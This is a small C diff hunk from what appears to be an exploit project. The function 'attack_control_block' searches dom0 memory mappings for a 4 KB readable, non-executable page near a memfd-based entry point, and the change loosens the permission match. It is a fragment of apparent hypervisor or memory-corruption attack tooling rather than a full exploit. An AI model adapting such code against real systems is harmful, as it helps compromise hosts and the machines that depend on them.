@@ -83,7 +83,8 @@ uint64_t attack_control_block(void)
 	uint64_t entry = attack_memfd_base("ara-entry");
 
 	for (size_t i = 0; entry && i < attack_n_dom0; i++)
-		if (!strncmp(attack_dom0[i].perms, "r--", 3) && attack_dom0[i].start > entry &&
+		if (attack_dom0[i].perms[0] == 'r' && attack_dom0[i].perms[2] == '-' &&
+		    attack_dom0[i].start > entry &&
 		    attack_dom0[i].end - attack_dom0[i].start == 4096 &&
 		    attack_dom0[i].start - entry < (1u << 24))
 			return attack_dom0[i].start;
